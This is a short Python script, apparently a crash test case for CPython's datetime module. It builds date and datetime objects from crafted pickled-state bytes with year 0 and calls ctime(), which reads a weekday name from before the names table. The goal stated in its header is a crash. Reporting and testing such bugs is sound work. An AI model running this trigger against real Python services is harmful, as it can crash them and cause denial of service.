# technique: a date made of a pickled state in the year 0: the name of its weekday lies before the table of names
# goal: crash
# source: own analysis: Modules/_datetimemodule.c date_new, only the month is looked at
import datetime

for day in range(1, 8):
    datetime.date(bytes([0, 0, 1, day])).ctime()
    datetime.datetime(bytes([0, 0, 1, day, 0, 0, 0, 0, 0, 0])).ctime()
